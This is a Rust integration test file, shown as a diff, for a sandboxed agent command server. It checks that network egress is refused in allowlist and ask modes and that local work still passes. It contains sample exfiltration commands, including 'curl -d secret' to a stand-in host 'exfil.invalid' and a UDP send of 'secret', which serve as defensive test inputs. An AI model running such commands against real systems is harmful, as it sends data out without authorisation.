@@ -1,0 +1,566 @@
+//! Network egress through the real binary (docs/BEHAVIOUR.md §13): what a confined command may
+//! reach in `allowlist` and `ask`, as a root server (which has the session's namespaces) and an
+//! unprivileged one (`setpriv` to nobody); what the model, the log and the user are told; the
+//! questions of `ask` over stdio.
+//!
+//! Packets go only to this machine: listeners of the test on loopback and on this machine's own
+//! addresses (each refused attempt must leave them untouched), the proxy, and a name no packet is
+//! sent for (the proxy refuses it before any lookup). The registries of the `_needs_registries`
+//! test are the one exception the issue asks for.
+
+use std::io::{Read as _, Write as _};
+use std::net::{IpAddr, SocketAddr, TcpListener, UdpSocket};
+use std::path::Path;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use rmcp::model::{
+    CallToolRequestParams, ClientCapabilities, ClientInfo, ElicitRequestParams, ElicitResult,
+    ElicitationAction, ElicitationCapability,
+};
+use rmcp::service::RequestContext;
+use rmcp::transport::TokioChildProcess;
+use rmcp::{ClientHandler, ErrorData, RoleClient, ServiceExt};
+use serde_json::{Value, json};
+
+use super::client::*;
+
+/// The unprivileged user the servers of the "nobody" half run as.
+const NOBODY: &str = "65534";
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Who {
+    /// A root server: the session's namespaces exist.
+    Root,
+    /// The same server run as nobody.
+    Nobody,
+}
+
+/// A server under test, its log, and (for nobody) the home it owns.
+struct Setup {
+    server: Server,
+    log: Log,
+    _home: Option<tempfile::TempDir>,
+}
+
+impl Setup {
+    async fn run(&self, command: &str) -> (String, Value) {
+        self.server.terminal(json!({ "command": command })).await
+    }
+}
+
+fn chown_to_nobody(path: &Path) {
+    let status = std::process::Command::new("chown")
+        .arg("-R")
+        .arg(format!("{NOBODY}:{NOBODY}"))
+        .arg(path)
+        .status()
+        .unwrap();
+    assert!(status.success());
+}
+
+/// A server on a fresh workspace, as `who`, started inside `wrapper` (root only).
+async fn serve(who: Who, flags: &[&str], wrapper: &[&str]) -> Setup {
+    // SAFETY: geteuid has no preconditions.
+    assert_eq!(unsafe { libc::geteuid() }, 0, "these tests need root");
+    let workspace = tempfile::tempdir().unwrap();
+    match who {
+        Who::Root => {
+            let (server, log) =
+                start_logged(wrapper, workspace, agentty_testkit::state_dir(), flags, &[]).await;
+            Setup {
+                server,
+                log,
+                _home: None,
+            }
+        }
+        Who::Nobody => {
+            let home = tempfile::Builder::new()
+                .prefix("nobody-home-")
+                .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
+                .unwrap();
+            let state = tempfile::Builder::new()
+                .prefix("state-")
+                .tempdir_in(home.path())
+                .unwrap();
+            chown_to_nobody(workspace.path());
+            chown_to_nobody(home.path());
+            let uid = format!("--reuid={NOBODY}");
+            let gid = format!("--regid={NOBODY}");
+            let wrapper = ["setpriv", &uid, &gid, "--clear-groups", "--"];
+            let (server, log) =
+                start_logged(&wrapper, workspace, state, flags, &[("HOME", home.path())]).await;
+            Setup {
+                server,
+                log,
+                _home: Some(home),
+            }
+        }
+    }
+}
+
+/// A TCP listener of the test (unconfined, on the host) that answers each connection with a
+/// tiny HTTP response and counts them.
+struct Listener {
+    at: SocketAddr,
+    seen: Arc<AtomicUsize>,
+}
+
+impl Listener {
+    fn on(ip: IpAddr) -> Listener {
+        let listener = TcpListener::bind((ip, 0)).unwrap();
+        let at = listener.local_addr().unwrap();
+        let seen = Arc::new(AtomicUsize::new(0));
+        let counted = Arc::clone(&seen);
+        std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                let Ok(mut stream) = stream else { continue };
+                counted.fetch_add(1, Ordering::SeqCst);
+                let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
+                let _ = stream.read(&mut [0u8; 4096]);
+                let _ = stream.write_all(
+                    b"HTTP/1.0 200 OK\r\nContent-Length: 12\r\nConnection: close\r\n\r\nhost-service",
+                );
+            }
+        });
+        Listener { at, seen }
+    }
+
+    fn seen(&self) -> usize {
+        self.seen.load(Ordering::SeqCst)
+    }
+}
+
+/// This machine's own addresses that are not loopback or link-local: an IPv4 and an IPv6 one,
+/// where it has them (`hostname -I`).
+fn own_addresses() -> (Option<IpAddr>, Option<IpAddr>) {
+    let out = std::process::Command::new("hostname")
+        .arg("-I")
+        .output()
+        .unwrap();
+    let all: Vec<IpAddr> = String::from_utf8_lossy(&out.stdout)
+        .split_whitespace()
+        .filter_map(|w| w.parse().ok())
+        .filter(|ip: &IpAddr| !ip.is_loopback())
+        .collect();
+    (
+        all.iter().copied().find(IpAddr::is_ipv4),
+        all.iter().copied().find(IpAddr::is_ipv6),
+    )
+}
+
+fn url_host(ip: IpAddr) -> String {
+    match ip {
+        IpAddr::V4(v4) => v4.to_string(),
+        IpAddr::V6(v6) => format!("[{v6}]"),
+    }
+}
+
+/// The result was refused with error 2010 naming `target` and `why`, and the command's pipe
+/// exited 0 (what `| tail` does to an exit code).
+#[track_caller]
+fn assert_refused(text: &str, s: &Value, target: &str, why: &str) {
+    assert_eq!(s["exit_code"], 0, "{text}");
+    assert_eq!(s["error_code"], 2010, "{text}");
+    let line = text
+        .lines()
+        .find(|l| l.starts_with("[error 2010] network:"))
+        .unwrap_or_else(|| panic!("no 2010 line: {text}"));
+    assert!(line.contains(target), "{target} not named: {line}");
+    assert!(line.contains(why), "{why:?} not said: {line}");
+}
+
+/// Every way out a command might try, each refused, nothing reaching the test's listeners.
+async fn exfiltration_is_refused(who: Who, mode: &str) {
+    let (v4, v6) = own_addresses();
+    let v4 = v4.expect("this machine has no IPv4 address but loopback");
+    let tcp = Listener::on("0.0.0.0".parse().unwrap());
+    let tcp6 = v6.map(|_| Listener::on("::".parse().unwrap()));
+    let udp = UdpSocket::bind("0.0.0.0:0").unwrap();
+    udp.set_nonblocking(true).unwrap();
+    let udp_port = udp.local_addr().unwrap().port();
+    // A listed name that resolves to this machine (its host name: /etc/hosts has it).
+    let hostname = std::fs::read_to_string("/proc/sys/kernel/hostname")
+        .unwrap()
+        .trim()
+        .to_owned();
+    let listed = format!("{hostname}:{}", tcp.at.port());
+    let setup = serve(who, &["--network", mode, "--allow-net", &listed], &[]).await;
+    let port = tcp.at.port();
+
+    // Direct TCP to this machine's own (not loopback) address.
+    let (text, s) = setup
+        .run(&format!(
+            "curl -sS --noproxy '*' --max-time 5 http://{}:{port}/ 2>&1 | tail -n 2",
+            url_host(v4)
+        ))
+        .await;
+    assert_refused(&text, &s, &format!("{v4}:{port}"), "a direct connection");
+
+    // IPv6, the same.
+    if let (Some(v6), Some(tcp6)) = (v6, &tcp6) {
+        let port6 = tcp6.at.port();
+        let (text, s) = setup
+            .run(&format!(
+                "curl -sS -g --noproxy '*' --max-time 5 'http://{}:{port6}/' 2>&1 | tail -n 2",
+                url_host(v6)
+            ))
+            .await;
+        assert_refused(&text, &s, &format!("[{v6}]:{port6}"), "a direct connection");
+    }
+
+    // UDP: a datagram needs no connect; the socket itself is refused.
+    let (text, s) = setup
+        .run(&format!(
+            "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\
+             .sendto(b\"secret\", (\"{v4}\", {udp_port}))' 2>&1 | tail -n 2"
+        ))
+        .await;
+    assert_refused(&text, &s, "a UDP socket", "only plain TCP");
+
+    // Through the proxy to a host not listed: refused before any lookup.
+    let (text, s) = setup
+        .run("curl -sS --max-time 5 -d secret https://exfil.invalid/upload 2>&1 | tail -n 2")
+        .await;
+    assert_refused(&text, &s, "exfil.invalid:443", "not on the allowlist");
+    assert!(
+        text.contains("403"),
+        "curl shows the proxy's answer: {text}"
+    );
+    let cannot = if mode == "ask" {
+        "this MCP client cannot ask the user"
+    } else {
+        "have such hosts asked with network = \"ask\""
+    };
+    assert!(text.contains(cannot), "{text}");
+
+    // A listed name that leads to this machine: refused, unless the address is listed.
+    let (text, s) = setup
+        .run(&format!(
+            "curl -sS --max-time 5 http://{listed}/ 2>&1 | tail -n 2"
+        ))
+        .await;
+    assert_refused(&text, &s, &listed, "it resolves to");
+    assert!(
+        text.contains("A listed name may not lead to inside addresses"),
+        "{text}"
+    );
+
+    // Nothing reached the test's listeners.
+    assert_eq!(tcp.seen(), 0, "a refused connection reached the listener");
+    if let Some(tcp6) = &tcp6 {
+        assert_eq!(
+            tcp6.seen(),
+            0,
+            "a refused connection reached the IPv6 listener"
+        );
+    }
+    assert!(
+        udp.recv_from(&mut [0u8; 64]).is_err(),
+        "a refused datagram arrived"
+    );
+    // Each was a line of the server's log, with its session and call.
+    for words in [
+        ["network: refused", &format!("{v4}:{port}"), "session"],
+        ["network: refused", "exfil.invalid:443", "call c"],
+        ["network: refused", "a UDP socket", "session"],
+    ] {
+        assert!(
+            logged(&setup.log, &words, Duration::from_secs(5))
+                .await
+                .is_some(),
+            "{who:?} {mode}: no log line with {words:?}: {}",
+            setup.log.lock().unwrap()
+        );
+    }
+}
+
+#[tokio::test]
+async fn net_exfiltration_is_refused_in_allowlist_as_root() {
+    exfiltration_is_refused(Who::Root, "allowlist").await;
+}
+
+#[tokio::test]
+async fn net_exfiltration_is_refused_in_ask_as_root() {
+    exfiltration_is_refused(Who::Root, "ask").await;
+}
+
+#[tokio::test]
+async fn net_exfiltration_is_refused_in_allowlist_as_nobody() {
+    exfiltration_is_refused(Who::Nobody, "allowlist").await;
+}
+
+#[tokio::test]
+async fn net_exfiltration_is_refused_in_ask_as_nobody() {
+    exfiltration_is_refused(Who::Nobody, "ask").await;
+}
+
+/// Work that must pass: a host service on loopback, a dev server the agent started, and a git
+/// clone over HTTP through the proxy from a local server.
+async fn local_work_passes(who: Who) {
+    let service = Listener::on("127.0.0.1".parse().unwrap());
+    let setup = serve(who, &[], &[]).await;
+    // A host service on loopback (a local database, the user's dev server).
+    let (text, s) = setup
+        .run(&format!(
+            "curl -sS --max-time 5 http://127.0.0.1:{}/",
+            service.at.port()
+        ))
+        .await;
+    assert_eq!(s["exit_code"], 0, "{text}");
+    assert!(text.contains("host-service"), "{text}");
+    assert!(s["error_code"].is_null(), "{text}");
+    assert_eq!(service.seen(), 1);
+
+    // A dev server the agent starts in the background, reached on loopback.
+    let port = TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port();
+    std::fs::write(
+        setup.server.workspace().join("index.html"),
+        "dev-server-page",
+    )
+    .unwrap();
+    if who == Who::Nobody {
+        chown_to_nobody(setup.server.workspace());
+    }
+    setup
+        .server
+        .background(json!({
+            "command": format!("python3 -m http.server {port} --bind 127.0.0.1")
+        }))
+        .await;
+    let (text, s) = setup
+        .run(&format!(
+            "for i in $(seq 50); do curl -sS --max-time 2 http://127.0.0.1:{port}/index.html \
+             2>/dev/null && exit 0; sleep 0.1; done; exit 1"
+        ))
+        .await;
+    assert_eq!(s["exit_code"], 0, "{text}");
+    assert!(text.contains("dev-server-page"), "{text}");
+
+    // git clone over HTTP through the proxy (NO_PROXY emptied), from a bare repository a local
+    // server of the test serves.
+    let served = tempfile::tempdir().unwrap();
+    let origin = served.path().join("origin");
+    std::fs::create_dir(&origin).unwrap();
+    let git = |dir: &Path, args: &[&str]| {
+        let out = std::process::Command::new("git")
+            .arg("-C")
+            .arg(dir)
+            .args(args)
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "git {args:?}: {out:?}");
+    };
+    git(&origin, &["init", "-q", "-b", "main"]);
+    git(&origin, &["config", "user.email", "t@example.com"]);
+    git(&origin, &["config", "user.name", "t"]);
+    std::fs::write(origin.join("README"), "cloned through the proxy\n").unwrap();
+    git(&origin, &["add", "README"]);
+    git(&origin, &["commit", "-qm", "one"]);
+    git(
+        served.path(),
+        &["clone", "-q", "--bare", "origin", "repo.git"],
+    );
+    git(&served.path().join("repo.git"), &["update-server-info"]);
+    let mut http = std::process::Command::new("python3")
+        .args(["-m", "http.server", "0", "--bind", "127.0.0.1"])
+        .current_dir(served.path())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let mut banner = [0u8; 256];
+    let n = http.stdout.as_mut().unwrap().read(&mut banner).unwrap();
+    let banner = String::from_utf8_lossy(&banner[..n]).into_owned();
+    let http_port: u16 = banner
+        .split("port ")
+        .nth(1)
+        .and_then(|rest| rest.split_whitespace().next())
+        .and_then(|p| p.parse().ok())
+        .unwrap_or_else(|| panic!("no port in {banner:?}"));
+    let (text, s) = setup
+        .run(&format!(
+            "NO_PROXY= no_proxy= git clone -q http://localhost:{http_port}/repo.git copy && \
+             cat copy/README"
+        ))
+        .await;
+    let _ = http.kill();
+    let _ = http.wait();
+    assert_eq!(s["exit_code"], 0, "{text}");
+    assert!(text.contains("cloned through the proxy"), "{text}");
+    assert!(s["error_code"].is_null(), "{text}");
+    let allowed = logged(
+        &setup.log,
+        &[
+            "network: allowed",
+            &format!("localhost:{http_port}"),
+            "(loopback)",
+        ],
+        Duration::from_secs(5),
+    )
+    .await;
+    assert!(
+        allowed.is_some(),
+        "the clone did not go through the proxy: {}",
+        setup.log.lock().unwrap()
+    );
+}
+
+#[tokio::test]
+async fn net_local_work_passes_as_root() {
+    local_work_passes(Who::Root).await;
+}
+
+#[tokio::test]
+async fn net_local_work_passes_as_nobody() {
+    local_work_passes(Who::Nobody).await;
+}
+
+/// `pip download` and `npm view` from the real registries, through the proxy (default `ask`,
+/// both on the built-in list). Ignored where the registries are not reachable.
+#[tokio::test]
+#[ignore = "needs pip, npm and the PyPI and npm registries"]
+async fn net_package_registries_work_through_the_proxy_needs_registries() {
+    let setup = serve(Who::Root, &[], &[]).await;
+    let (text, s) = setup
+        .run("python3 -m pip download --no-deps --no-cache-dir -q -d dl six==1.16.0 && ls dl")
+        .await;
+    assert_eq!(s["exit_code"], 0, "{text}");
+    assert!(text.contains("six-1.16.0"), "{text}");
+    let (text, s) = setup
+        .run("npm view --cache ./npm-cache left-pad@1.3.0 version")
+        .await;
+    assert_eq!(s["exit_code"], 0, "{text}");
+    assert!(text.contains("1.3.0"), "{text}");
+    for host in [
+        "pypi.org:443",
+        "files.pythonhosted.org:443",
+        "registry.npmjs.org:443",
+    ] {
+        assert!(
+            logged(
+                &setup.log,
+                &["network: allowed", host, "built-in"],
+                Duration::from_secs(5)
+            )
+            .await
+            .is_some(),
+            "{host}: {}",
+            setup.log.lock().unwrap()
+        );
+    }
+}
+
+/// A client that answers each network question with `answer` and counts them.
+#[derive(Clone)]
+struct Answering {
+    answer: Arc<Mutex<&'static str>>,
+    asked: Arc<Mutex<Vec<String>>>,
+}
+
+impl ClientHandler for Answering {
+    async fn create_elicitation(
+        &self,
+        request: ElicitRequestParams,
+        _context: RequestContext<RoleClient>,
+    ) -> Result<ElicitResult, ErrorData> {
+        let ElicitRequestParams::FormElicitationParams { message, .. } = request else {
+            return Ok(ElicitResult::new(ElicitationAction::Decline));
+        };
+        self.asked.lock().unwrap().push(message);
+        let answer = *self.answer.lock().unwrap();
+        Ok(
+            ElicitResult::new(ElicitationAction::Accept)
+                .with_content(json!({ "decision": answer })),
+        )
+    }
+
+    fn get_info(&self) -> ClientInfo {
+        let mut info = ClientInfo::default();
+        let mut capabilities = ClientCapabilities::default();
+        capabilities.elicitation =
+            Some(serde_json::from_value::<ElicitationCapability>(json!({"form": {}})).unwrap());
+        info.capabilities = capabilities;
+        info
+    }
+}
+
+#[tokio::test]
+async fn net_ask_approves_once_for_the_session_or_denies_over_stdio() {
+    let (Some(v4), _) = own_addresses() else {
+        panic!("this machine has no IPv4 address but loopback");
+    };
+    // A host not on the list that is still this machine: its own address, through the proxy.
+    let service = Listener::on("0.0.0.0".parse().unwrap());
+    let target = format!("{v4}:{}", service.at.port());
+    let workspace = tempfile::tempdir().unwrap();
+    let state = agentty_testkit::state_dir();
+    let mut cmd = tokio::process::Command::new(env!("CARGO_BIN_EXE_agentty"));
+    cmd.arg("serve")
+        .arg("--workspace")
+        .arg(workspace.path())
+        .arg("--state-dir")
+        .arg(state.path());
+    let client = Answering {
+        answer: Arc::new(Mutex::new("once")),
+        asked: Arc::default(),
+    };
+    let service_client = client
+        .clone()
+        .serve(TokioChildProcess::new(cmd).unwrap())
+        .await
+        .unwrap();
+    let run = |command: String| {
+        let service_client = &service_client;
+        async move {
+            let Value::Object(args) = json!({ "command": command }) else {
+                unreachable!()
+            };
+            let result = service_client
+                .call_tool(CallToolRequestParams::new("terminal").with_arguments(args))
+                .await
+                .unwrap();
+            (text_of(&result), result.structured_content.unwrap())
+        }
+    };
+    let fetch = format!("curl -sS --max-time 20 http://{target}/ 2>&1 | tail -n 1");
+
+    // Once: asked, allowed for that command; the next command is asked again.
+    let (text, s) = run(fetch.clone()).await;
+    assert!(text.contains("host-service"), "{text}");
+    assert!(s["error_code"].is_null(), "{text}");
+    assert_eq!(client.asked.lock().unwrap().len(), 1);
+    assert!(
+        client.asked.lock().unwrap()[0].contains(&target),
+        "the question names the host: {:?}",
+        client.asked.lock().unwrap()
+    );
+    let (text, _) = run(fetch.clone()).await;
+    assert!(text.contains("host-service"), "{text}");
+    assert_eq!(client.asked.lock().unwrap().len(), 2, "once is one command");
+
+    // Deny: refused, 2010, through `| tail`.
+    *client.answer.lock().unwrap() = "deny";
+    let (text, s) = run(fetch.clone()).await;
+    assert_refused(&text, &s, &target, "the user declined it");
+    assert_eq!(client.asked.lock().unwrap().len(), 3);
+
+    // Session: asked once more, then every command of the session passes without a question.
+    *client.answer.lock().unwrap() = "session";
+    let (text, _) = run(fetch.clone()).await;
+    assert!(text.contains("host-service"), "{text}");
+    let (text, _) = run(fetch.clone()).await;
+    assert!(text.contains("host-service"), "{text}");
+    assert_eq!(
+        client.asked.lock().unwrap().len(),
+        4,
+        "the session's approval holds"
+    );
+    assert_eq!(service.seen(), 4, "the denied connection reached the host");
+    service_client.cancel().await.unwrap();
+}
